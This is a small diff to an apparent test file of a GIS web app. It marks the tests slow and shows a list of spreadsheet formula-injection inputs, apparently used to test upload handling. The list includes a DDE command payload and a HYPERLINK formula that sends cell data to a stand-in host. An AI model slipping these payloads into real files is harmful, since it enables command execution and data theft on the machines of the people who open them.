@@ -21,6 +21,9 @@ from gisapp.web.app import create_app
 from tests.helpers import PASSWORD, signed_in, token_of
 from tests.stores import BACKENDS, new_store
 
+# every upload is checked in a child process (a second or more each)
+pytestmark = pytest.mark.slow
+
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-3+4",
             "\t=1+1", "\r=1+1"]
 
